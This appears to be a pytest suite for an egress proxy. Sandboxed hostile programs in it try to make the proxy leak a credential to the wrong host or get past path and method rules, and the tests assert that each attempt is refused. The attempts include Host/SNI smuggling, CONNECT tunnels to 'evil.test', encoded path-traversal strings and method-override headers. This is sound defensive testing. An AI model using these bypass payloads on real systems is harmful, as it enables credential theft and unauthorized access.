"""Programs that say they go to one place and mean another. A credential follows the name that was dialled and proved by
TLS, whatever else is said; what is granted is what is meant, however it is spelt."""

import re
import textwrap

import pytest
from tests.egress.attacker import PRELUDE
from tests.egress.world import SECRET
from tests.far_side.hostile import hostile

pytestmark = pytest.mark.anyio

KEY = SECRET.encode()
BETA = b"the-key-of-beta-0815"
REFUSED = re.compile(r"(?:400 bad_request|403 [a-z_]+)|none")
RULES = [
    {"action": "deny", "paths": ["/admin/**", "/admin"]},
    {"action": "allow", "methods": ["GET", "POST"], "paths": ["/**"]},
]


@pytest.fixture(scope="module")
async def alpha(authority):
    """A hostile server that is sent a key of its own, and is everything below ``wild.test`` too."""
    names = ("alpha.test", "x.wild.test", "a.b.wild.test")
    async with hostile(authority.server(*names, protocols=("http/1.1",))) as server:
        yield server


@pytest.fixture(scope="module")
async def beta(authority):
    """A server whose key everybody wants."""
    async with hostile(authority.server("beta.test", protocols=("http/1.1",))) as server:
        yield server


@pytest.fixture(scope="module")
async def gamma():
    """A server without TLS, which is sent no key."""
    async with hostile() as server:
        yield server


@pytest.fixture(scope="module")
async def world(world_of, api_at, alpha, beta, gamma):
    """Gloveport with APIs of all three."""
    bearer = {"kind": "bearer", "secret": "env:BETA_KEY"}
    stand_in = {"kind": "placeholder", "name": "TOKEN", "secret": "env:BETA_KEY", "places": ["header:x-token"]}
    apis = {
        "alpha": api_at(alpha.place.port, rules=RULES),
        "beta": api_at(beta.place.port, name="beta.test", auth=[bearer, stand_in]),
        "gamma": {"hosts": [f"http://gamma.test:{gamma.place.port}"], "addresses": [gamma.place.host]},
        "wild": api_at(alpha.place.port, name="*.wild.test"),
    }
    policy = {"limits": {"output_bytes": "1MiB", "code_bytes": "1MiB"}}
    async with world_of({"BETA_KEY": BETA.decode()}, api=apis, policy=policy) as opened:
        yield opened


@pytest.fixture
def attack(world, alpha, beta, gamma):
    """Run a hostile program, and tell what it was answered."""

    async def run(program: str, language="python") -> dict[str, str]:
        for server in (alpha, beta, gamma):
            server.answers = {}
            server.forget()
        a, b, g = (server.place.port for server in (alpha, beta, gamma))
        ports = f'A, B, G = "alpha.test:{a}", "beta.test:{b}", "gamma.test:{g}"\nALPHA, BETA, GAMMA = {a}, {b}, {g}\n'
        if language == "python":
            return await world.value("python", PRELUDE + ports + textwrap.dedent(program))
        declared = re.sub(r"^(.*?) = (.*)$", r"const [\1] = [\2];", ports, flags=re.MULTILINE)
        return await world.value(language, declared + textwrap.dedent(program))

    return run


async def test_no_route_sends_the_key_of_one_host_to_another(attack, alpha, beta, gamma):
    """N3, N5, W1 of CodeForge: Host, SNI, absolute-form, CONNECT, kept connections, clients."""
    said = await attack("""
    import urllib.request

    def kept():
        with direct("alpha.test", ALPHA) as stream:
            stream.sendall(f"GET /first HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n".encode())
            while b"ok" not in stream.recv(4096):
                pass
            return asked(stream, request(B, "/second"))

    def client():
        connection = http.client.HTTPSConnection("alpha.test", ALPHA)
        connection.request("GET", "/", headers={"Host": B})
        answer = connection.getresponse()
        return b"HTTP/1.1 %d x\\r\\n\\r\\n" % answer.status + answer.read()

    def opener():
        try:
            return urllib.request.urlopen(urllib.request.Request(f"https://{A}/", headers={"Host": B})).read()
        except urllib.error.HTTPError as error:
            return b"HTTP/1.1 %d x\\r\\n\\r\\n" % error.code + error.read()

    attempts = {
        "direct": lambda: asked(direct("alpha.test", ALPHA), request(B)),
        "tunnel": lambda: asked(tunneled("alpha.test", ALPHA), request(B)),
        "without-port": lambda: asked(direct("alpha.test", ALPHA), request("alpha.test")),
        "other-port": lambda: asked(direct("alpha.test", ALPHA), request(f"alpha.test:{BETA}")),
        "sni": lambda: asked(direct("alpha.test", ALPHA, "beta.test", unchecked), request(A)),
        "sni-and-host": lambda: asked(direct("alpha.test", ALPHA, "beta.test", unchecked), request(B)),
        "sni-in-tunnel": lambda: asked(tunneled("alpha.test", ALPHA, "beta.test", unchecked), request(B)),
        "absolute": lambda: asked(direct("alpha.test", ALPHA), request(B, f"https://{B}/")),
        "absolute-with-host": lambda: asked(direct("alpha.test", ALPHA), request(A, f"https://{B}/")),
        "absolute-in-tunnel": lambda: asked(tunneled("alpha.test", ALPHA), request(B, f"https://{B}/")),
        "absolute-at-proxy": lambda: asked(plain(), request(B, f"https://{A}/")),
        "absolute-at-proxy-plain": lambda: asked(plain(), request(B, f"http://{G}/")),
        "plain": lambda: asked(direct("gamma.test", GAMMA, None), request(B)),
        "plain-absolute": lambda: asked(direct("gamma.test", GAMMA, None), request(B, f"http://{B}/")),
        "user": lambda: asked(direct("alpha.test", ALPHA), request(A, host=f"{A}@{B}")),
        "user-at-proxy": lambda: asked(plain(), request(B, f"https://{A}@{B}/")),
        "list": lambda: asked(direct("alpha.test", ALPHA), request(A, host=f"{A}, {B}")),
        "path": lambda: asked(direct("alpha.test", ALPHA), request(A, host=f"{B}/{A}")),
        "two": lambda: asked(direct("alpha.test", ALPHA), request(A, headers=[f"Host: {B}"])),
        "folded": lambda: asked(direct("alpha.test", ALPHA), request(A, host=f"{A}\\r\\n {B}")),
        "kept": kept,
        "http.client": client,
        "urllib": opener,
        "address": lambda: asked(direct("127.0.0.1", BETA), request(B)),
        "address-at-proxy": lambda: asked(plain(), request(B, f"https://127.0.0.11:{BETA}/")),
        "tunnel-to-address": lambda: asked(tunneled("127.0.0.11", BETA, "beta.test", unchecked), request(B)),
        "tunnel-to-nobody": lambda: asked(tunneled("evil.test", BETA), request(B)),
        "tunnel-host-header": lambda: asked(plain(), f"CONNECT {A} HTTP/1.1\\r\\nHost: {B}\\r\\n\\r\\n".encode()
            + request(B)),
    }
    together(attempts)
    """)
    assert {name: code for name, code in said.items() if not REFUSED.fullmatch(code)} == {}
    assert beta.heard == []
    assert [heard.target for heard in alpha.heard] == ["/first"]
    assert gamma.heard == []
    assert BETA not in alpha.received + gamma.received
    assert said["direct"] == said["tunnel"] == said["http.client"] == said["urllib"] == "403 names_disagree"


async def test_deno_has_no_route_either(attack, alpha, beta):
    """N3, W1 of CodeForge: a client that allows Host, a TLS socket, a socket, ``node:https``."""
    said = await attack(
        """
    import https from "node:https";
    const told = async (stream) => {
      const text = `GET / HTTP/1.1\\r\\nHost: ${B}\\r\\nConnection: close\\r\\n\\r\\n`;
      await stream.write(new TextEncoder().encode(text));
      return (await new Response(stream.readable).text()).slice(0, 12);
    };
    const attempts = {
      client: async () => {
        const client = Deno.createHttpClient({ allowHost: true });
        return (await fetch(`https://${A}/`, { client, headers: { Host: B } })).status;
      },
      fetch: async () => (await fetch(`https://${A}/`, { headers: { Host: B } })).status,
      tls: async () => await told(await Deno.connectTls({ hostname: "alpha.test", port: ALPHA })),
      plain: async () => await told(await Deno.connect({ hostname: "alpha.test", port: ALPHA })),
      address: async () => await told(await Deno.connect({ hostname: "127.0.0.1", port: BETA })),
      node: () => new Promise((resolve, reject) => {
        https.get({ host: "alpha.test", port: ALPHA, headers: { Host: B } }, (got) => resolve(got.statusCode))
          .on("error", reject);
      }),
    };
    const said = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try { said[name] = String(await attempt()); } catch (error) { said[name] = error.name; }
    }
    said
    """,
        "typescript",
    )
    assert beta.heard == []
    assert BETA not in alpha.received
    # Plain ``fetch`` keeps to its own Host; whether there is a client that allows another depends on Deno.
    assert {heard.values("host")[0] for heard in alpha.heard} <= {f"alpha.test:{alpha.place.port}".encode()}
    assert said["fetch"] in {"200", "403"}
    assert said["tls"] == "HTTP/1.1 403"
    assert said["node"] in {"403", "Error"}, "it takes Host for the name that it asks for by TLS"
    assert all(answer != "200" for name, answer in said.items() if name not in {"fetch", "client"})


async def test_a_name_spelt_otherwise_is_the_same_name_with_the_same_rules(attack, alpha):
    """N2, N3, W20 of CodeForge: case, a dot behind it, a port with zeros; and what only looks like it is another."""
    said = await attack("""
    def at(host, target="/admin/x", connect="alpha.test"):
        return lambda: asked(tunneled(connect, ALPHA), request(A, target, host=host))

    def absolute(host, target="/admin/x"):
        return lambda: asked(plain(), request(A, f"https://{host}{target}", host=host))

    attempts = {
        "upper": at(f"ALPHA.test:{ALPHA}"),
        "dot": at(f"alpha.test.:{ALPHA}"),
        "upper-at-proxy": absolute(f"ALPHA.TEST:{ALPHA}"),
        "dot-at-proxy": absolute(f"alpha.test.:{ALPHA}"),
        "wide": absolute(f"%ef%bd%81lpha.test:{ALPHA}"),
        "nul": absolute(f"alpha.test%00.evil.test:{ALPHA}"),
        "below": absolute(f"x.alpha.test:{ALPHA}"),
        "above": absolute(f"test:{ALPHA}"),
        "behind": absolute(f"alpha.test.evil.test:{ALPHA}"),
        "before": absolute(f"evilalpha.test:{ALPHA}"),
        "two-dots": absolute(f"alpha..test:{ALPHA}"),
        "evilwild": absolute(f"evilwild.test:{ALPHA}", "/"),
        "wild": absolute(f"wild.test:{ALPHA}", "/"),
        "star": absolute(f"*.wild.test:{ALPHA}", "/"),
        "port": absolute("x.wild.test:8443", "/"),
        "default-port": absolute("x.wild.test", "/"),
    }
    together(attempts) | {
        "granted": code_of(absolute(f"X.wild.TEST.:{ALPHA}", "/one")()),
        "granted-deeply": code_of(absolute(f"a.b.wild.test:{ALPHA}", "/two")()),
    }
    """)
    granted = {said.pop("granted"), said.pop("granted-deeply")}
    assert {name: code for name, code in said.items() if not REFUSED.fullmatch(code)} == {}
    same = ("upper", "dot", "upper-at-proxy", "dot-at-proxy")
    assert {said[name] for name in same} == {"403 method_or_path_not_allowed"}
    assert granted == {"200"}
    assert [heard.target for heard in alpha.heard] == ["/one", "/two"]
    assert alpha.heard[0].values("host") == [f"x.wild.test:{alpha.place.port}".encode()]


async def test_no_spelling_of_a_path_walks_around_a_rule(attack, alpha):
    """N2: dot segments, encoded letters and separators, parameters, doubled slashes, backslashes, overlong forms."""
    said = await attack(r"""
    import gzip

    paths = [
        "/admin", "/admin/x", "/%61dmin/x", "/%61%64%6d%69%6e/x", "/admi%6E", "//admin/x", "/./admin/x",
        "/x/../admin/x", "/x/%2e%2e/admin/x", "/x/.%2E/admin/x", "/x/..;/admin/x", "/admin;a=b/x", "/admin%2fx",
        "/admin%5cx", "/admin\\x", "\\admin\\x", "/x\\..\\admin\\x", "/%2561dmin/x", "/x/%252e%252e/admin",
        "/%25%36%31dmin/x", "/x/%25%32%65%252%45/admin",
        "/%c0%af/admin/x", "/x/%c0%ae%c0%ae/admin", "/admin%00", "/admin%0a", "/%u0061dmin/x", "/admin/.",
        "/admin%20", "/%", "/admin%2e", "/x/..%2fadmin", "https://" + A + "/admin/x",
        "https://" + A + "//admin/x", "https://" + A + "/x/../admin", "/admin?/open", "/admin#x",
        "/x/\x85/admin", "/admin\t/x", "admin/x", "",
    ]
    def at(*args):
        return lambda: asked(direct("alpha.test", ALPHA), request(A, *args))

    attempts = {path: at(path) for path in paths}
    attempts |= {
        name: at(target, "POST", [header], b"a=b")
        for name, target, header in (
            ("header", "/x", "X-HTTP-Method-Override: DELETE"),
            ("short", "/x", "X-HTTP-Method: DELETE"),
            ("other", "/x", "x-method-override: PATCH"),
            ("underscores", "/x", "X_HTTP_METHOD_OVERRIDE: DELETE"),
            ("path", "/x", "X-Original-URL: /admin/x"),
            ("rewrite", "/x", "X-Rewrite-Url: /admin/x"),
            ("copy", "/x", "x-amz-copy-source: /admin/x"),
            ("copy-with-underscores", "/x", "X_MS_Copy_Source: https://alpha.test/admin/x"),
            ("rename", "/x", "x-ms-rename-source: /admin/x"),
            ("destination", "/x", "Destination: /admin/x"),
            ("query", "/x?_method=DELETE", "X: 1"),
            ("encoded", "/x?a=1&%5fMethod=DELETE", "X: 1"),
            ("semicolon", "/x?a=1;_method=DELETE", "X: 1"),
            ("graph", "/x?method=delete", "X: 1"),
            ("named", "/x?x-http-method-override=DELETE", "X: 1"),
        )
    }
    form, parts = "Content-Type: application/x-www-form-urlencoded", "Content-Type: multipart/form-data; boundary=b"
    plain, json_ = "Content-Type: text/plain", "Content-Type: application/json"
    gzip_, override = "Content-Encoding: gzip", b'{"_method": "DELETE"}'
    head = request(A, "/part", "POST", [json_, "Transfer-Encoding: chunked"])
    pieces = [head, *(b"1\r\n%c\r\n" % byte for byte in b'{"_method":"PUT"}'), b"0\r\n\r\n"]
    part = b'--b\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--b--\r\n'
    attempts |= {
        "form": at("/x", "POST", [form], b"a=b&_method=DELETE"),
        "form-encoded": at("/x", "POST", [form + "; charset=utf-8"], b"%5fmetho%64=DELETE&a=b"),
        "form-of-parts": at("/x", "POST", [parts], part),
        "form-under-a-coding": at("/x", "POST", [form, "Content-Encoding: gzip"], b"?"),
        "form-in-ebcdic": at("/x", "POST", [form + "; charset=ibm037"], "a=b&_method=DELETE".encode("cp037")),
        "form-without-a-type": at("/x", "POST", [], b"a=b&_method=DELETE"),
        "form-of-an-empty-type": at("/x", "POST", ["Content-Type: "], b"_method=DELETE"),
        "form-of-two-types": at("/x", "POST", [plain, form.replace("-", "_", 1)], b"_method=PUT"),
        "parts-of-mail": at("/x", "POST", [parts.replace("form-data", "mixed")], part),
        "related-parts": at("/x", "POST", [parts.replace("form-data", "related")], part),
        "escaped-part": at("/x", "POST", [parts], part.replace(b"_method", b"_me\\thod")),
        "numbered-part": at("/x", "POST", [parts], b"--b\r\nContent-ID: _method\r\n\r\nDELETE\r\n--b--\r\n"),
        "json": at("/x", "POST", [json_], b'{"a": 1, "_method": "DELETE"}'),
        "escaped-json": at("/x", "POST", [json_.replace("json", "a+JSON")], b'{"\\u005fm\\u0065thod": "DELETE"}'),
        "long-json": at("/part", "POST", [json_], b'{"a": "%b", "_method": "DELETE"}' % (b"x" * 100_000)),
        "json-under-a-coding": at("/x", "POST", [json_, gzip_], gzip.compress(override)),
        "json-under-a-coding-with-underscore": at(
            "/x", "POST", [json_, gzip_.replace("-", "_")], gzip.compress(override)
        ),
        "json-in-utf-16": at("/x", "POST", [json_], override.decode().encode("utf-16")),
        "json-in-utf-7": at("/x", "POST", [json_ + "; charset=utf-7"], override.replace(b"_", b"+AF8-")),
        "json-over-pieces": lambda: asked(direct("alpha.test", ALPHA), *pieces),
    }
    attempts |= {"method": at("/x", "DELETE"), "lower-case": at("/x", "delete")}
    attempts |= {"fine": at("/fine?method=flickr.photos"), "fine-form": at("/fine", "POST", [form], b"method_=a+b")}
    attempts["fine-json"] = at("/fine", "POST", [json_], b'{"method": "DELETE", "text": "\\"_method\\""}')
    attempts["fine-coding"] = at("/fine", "POST", [json_, gzip_], gzip.compress(b'{"method": "DELETE"}'))
    attempts["fine-chunks"] = at("/fine", "POST", [json_, "Content-Encoding: aws-chunked"], b"2\r\n{}\r\n0\r\n\r\n")
    together(attempts)
    """)
    fine = "fine", "fine-form", "fine-json", "fine-coding", "fine-chunks"
    assert [said.pop(name) for name in fine] == ["200"] * len(fine)
    passed = {path: code for path, code in said.items() if not REFUSED.fullmatch(code)}
    assert passed == {"/admin%20": "200", "/admin%2e": "200"}, "these are other paths, as they are to every server"
    begun = alpha.at("/part")
    assert [heard.body for heard in begun] == [b"", b""], "of what is looked at as it goes, the end never comes"
    heard_whole = {heard.target for heard in alpha.heard if heard not in begun}
    assert heard_whole == {"/admin%20", "/admin%2e", "/fine?method=flickr.photos", "/fine"}


async def test_ports_and_schemes_that_were_not_granted_lead_nowhere(attack, alpha, beta, gamma):
    """N2, N4, N5, W8 of CodeForge: 8443 and others, plain HTTP to a host with a credential, both by both doors."""
    said = await attack("""
    attempts = {
        "8443": lambda: asked(tunneled("alpha.test", 8443), request("alpha.test:8443")),
        "443": lambda: asked(direct("alpha.test", 443), request("alpha.test")),
        "80": lambda: asked(direct("alpha.test", 80, None), request("alpha.test")),
        "22": lambda: asked(tunneled("alpha.test", 22, None), request("alpha.test:22")),
        "plain": lambda: asked(direct("alpha.test", ALPHA, None), request(A)),
        "plain-at-proxy": lambda: asked(plain(), request(A, f"http://{A}/")),
        "plain-in-tunnel": lambda: asked(tunneled("alpha.test", ALPHA, None), request(A)),
        "tls-to-plain": lambda: asked(direct("gamma.test", GAMMA), request(G)),
        "port-of-another": lambda: asked(direct("alpha.test", BETA), request(f"alpha.test:{BETA}")),
        "door-of-another": lambda: asked(direct("127.64.0.9", ALPHA), request(A)),
        "nobody": lambda: asked(plain(), request("evil.test", "http://evil.test/")),
        "websocket": lambda: asked(plain(), request("evil.test", "ws://alpha.test/")),
    }
    together(attempts)
    """)
    assert {name: code for name, code in said.items() if not REFUSED.fullmatch(code)} == {}
    assert said["plain"] == said["plain-at-proxy"] == said["plain-in-tunnel"] == "403 plain_http_not_granted"
    assert alpha.heard == beta.heard == gamma.heard == []


async def test_a_placeholder_is_worth_nothing_where_it_does_not_belong(attack, world, alpha, beta, gamma):
    """N5, T6, W2 and W6 of CodeForge: to another host, in another place, in a body that can be read back."""
    said = await attack("""
    token = os.environ["TOKEN"]
    own = [f"X-Token: {token}"]
    body = token.encode()

    def at_beta(*args):
        return lambda: asked(direct("beta.test", BETA), request(B, *args))

    together({
        "gamma": lambda: asked(direct("gamma.test", GAMMA, None), request(G, f"/{token}?t={token}", "POST", own, body)),
        "alpha": lambda: asked(direct("alpha.test", ALPHA), request(A, f"/?t={token}", "POST", own, body)),
        "place": at_beta("/right", "GET", own),
        "twice": at_beta("/twice", "GET", own + own),
        "body": at_beta("/write", "POST", [f"X-Other: {token}"], body),
        "spelt": at_beta("/spelt", "GET", [f"X_Token: {token}", f"X-Tokens: {token}"]),
        "another": at_beta("/another", "GET", ["X-Token: my-own-key-1234567"]),
    }) | {"token": token}
    """)
    token = said.pop("token").encode()
    assert set(said.values()) == {"200"}
    assert BETA not in alpha.received + gamma.received
    assert (alpha.received.count(token), gamma.received.count(token)) == (3, 4), "there it is a useless string"
    heard = {request.target.partition("?")[0]: request for request in beta.heard}
    assert heard["/right"].values("x-token") == [BETA]
    assert heard["/twice"].values("x-token") == [BETA], "each place is filled once, and nothing else leaves in it"
    assert heard["/write"].body == token
    assert heard["/write"].values("x-other") == [token]
    assert heard["/spelt"].values("x_token") == []
    assert heard["/another"].values("x-token") == [], "nor does a key of the program's own"
    strays = [record.fields.get("injected") for record in world.records("fetch.ended")]
    assert any("stray:body" in stray for stray in strays if stray)
    assert len(token) >= 32
